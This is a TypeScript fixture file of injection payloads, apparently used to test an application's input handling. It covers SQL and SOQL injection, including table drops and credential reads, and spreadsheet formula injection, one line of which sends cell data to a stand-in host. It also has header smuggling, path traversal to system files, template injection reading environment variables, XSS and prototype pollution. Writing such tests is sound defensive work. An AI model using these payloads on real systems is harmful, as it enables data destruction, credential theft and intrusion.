/** Text that means something to an interpreter, by the interpreter it is meant for. */

/** What a template would make of 1337 × 7331. */
export const evaluated = String(1337 * 7331);
/** The header that must never come back. */
export const smuggled = 'x-smuggled';

export const payloads: Readonly<Record<string, readonly string[]>> = {
  sql: [
    "'; drop table crm_integrations; --",
    "' or '1'='1",
    "1); delete from organizations where ('1'='1",
    "\\'; select pg_sleep(20); --",
    "%' union select credentials::text from crm_integrations --",
    '$1::uuid; set role postgres; --',
    "E'\\047 or true --",
  ],
  soql: [
    "' OR Name != '",
    "\\' OR Id != null OR Name = \\'",
    "' LIMIT 2000 FOR UPDATE",
    "%' AND (SELECT Id FROM User) != null --",
    "003000000000001AAA' OR Id LIKE '003%",
  ],
  formula: [
    '=HYPERLINK("http://collect.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|x',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\uff1d1+1',
  ],
  header: [
    `a\r\n${smuggled}: yes`,
    `a%0d%0a${smuggled}:%20yes`,
    `a\u560d\u560a${smuggled}: yes`,
    `a\n\n<script>alert(1)</script>`,
  ],
  path: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//etc/passwd',
    '%2e%2e/%2e%2e/server/main.ts',
    'file:///etc/passwd',
    '/proc/self/environ\0.png',
  ],
  prototype: ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'],
  template: [
    '{{1337*7331}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for a template, not for us.
    '${1337*7331}',
    '<%= 1337*7331 %>',
    '#{1337*7331}',
    '{{constructor.constructor("return process.env")()}}',
    '{!1337*7331}',
  ],
  markup: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "javascript:alert('1')",
    ']]><!--',
    '<svg/onload=alert(1)>',
  ],
};

/** Bodies in which a name and not a value is the attack. */
export const pollutedBodies: readonly string[] = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"a":{"__proto__":{"polluted":"yes"}}}',
  '[{"__proto__":{"polluted":"yes"}}]',
];
